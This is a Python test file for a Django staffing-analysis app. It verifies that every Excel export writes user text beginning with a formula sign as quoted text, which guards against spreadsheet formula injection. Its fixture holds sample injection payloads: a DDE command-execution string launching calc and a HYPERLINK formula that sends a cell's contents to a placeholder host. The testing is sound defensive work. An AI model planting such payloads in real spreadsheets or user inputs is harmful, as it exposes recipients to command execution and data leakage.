"""No workbook the app offers turns text typed by a user into a formula."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from anjab.models import PeriodeAnalisis, TugasJabatan
from tests.factories import JabatanFactory, PegawaiFactory

PEMICU = ("=", "+", "-", "@")
INSTANSI = '=HYPERLINK("http://contoh.invalid/?"&A3,"Klik")'
TEKS = {
    "instansi": INSTANSI,
    "dinas": "+Dinas Sosial",
    "sekretariat": "-Sekretariat",
    "jabatan": "@Penata Layanan Operasional",
    "ikhtisar": "=1+1",
    "uraian": "=SUM(1,2)",
    "hasil": "+Dokumen",
    "pegawai": "=cmd|' /C calc'!A0",
}


@pytest.fixture
def data_jahat(dunia):
    dunia.instansi.nama = INSTANSI
    dunia.instansi.save()
    dunia.dinas.nama = TEKS["dinas"]
    dunia.dinas.save()
    dunia.sekretariat.nama = TEKS["sekretariat"]
    dunia.sekretariat.save()
    periode = PeriodeAnalisis.objects.create(instansi=dunia.instansi, nama="ABK 2025", tahun=2025)
    jabatan = JabatanFactory(
        unit=dunia.sekretariat, nama=TEKS["jabatan"], ikhtisar=TEKS["ikhtisar"], kode="-01"
    )
    TugasJabatan.objects.create(
        jabatan=jabatan,
        periode=periode,
        urutan=1,
        uraian=TEKS["uraian"],
        hasil_kerja=TEKS["hasil"],
        volume=12,
        waktu=1500,
    )
    PegawaiFactory(unit=dunia.sekretariat, jabatan=jabatan, nama=TEKS["pegawai"])
    return {"periode": periode, "jabatan": jabatan}


def _buku_kerja(response) -> list[tuple[str, bytes]]:
    assert response.status_code == 200, response.status_code
    if response["Content-Type"] == "application/zip":
        with zipfile.ZipFile(io.BytesIO(response.content)) as z:
            return [(n, z.read(n)) for n in z.namelist() if n.endswith(".xlsx")]
    return [(response["Content-Disposition"], response.content)]


def _sel_teks(isi: bytes):
    wb = load_workbook(io.BytesIO(isi))
    for ws in wb.worksheets:
        for baris in ws.iter_rows():
            for cell in baris:
                yield ws.title, cell


def test_every_export_writes_user_text_starting_with_a_formula_sign_as_text(
    dunia, users, login, data_jahat
):
    periode, jabatan = data_jahat["periode"], data_jahat["jabatan"]
    client = login(users["admin"])
    q = {"periode": periode.pk}
    unduhan = [
        client.get(reverse("abk:ekspor_rekap"), q),
        client.get(reverse("abk:ekspor_rekap"), {**q, "unit": dunia.dinas.pk}),
        client.get(reverse("abk:ekspor_jabatan"), q),
        client.get(reverse("abk:impor_templat")),
        client.get(reverse("abk:siasn_jabatan", args=[jabatan.pk]), {**q, "unduh": 1}),
        client.get(reverse("abk:ekspor_siasn_unit"), {**q, "unit": dunia.dinas.pk}),
    ]
    berkas = [b for r in unduhan for b in _buku_kerja(r)]
    assert len(berkas) >= 6

    dijumpai = set()
    for nama, isi in berkas:
        for lembar, cell in _sel_teks(isi):
            letak = f"{nama} {lembar}!{cell.coordinate}"
            assert cell.data_type != "f", f"rumus di {letak}: {cell.value!r}"
            if isinstance(cell.value, str) and cell.value.startswith(PEMICU):
                assert cell.data_type == "s" and cell.quotePrefix, letak
                dijumpai.update(t for t in TEKS.values() if t in cell.value)

    # The rekap's second title row names the instansi: the cell the bug report measured.
    rekap = load_workbook(io.BytesIO(unduhan[0].content))["Rekap jabatan"]
    assert rekap["A2"].value.startswith(INSTANSI) and rekap["A2"].data_type == "s"
    # Every kind of user text reached some workbook, so the scan above saw it.
    assert dijumpai == set(TEKS.values())
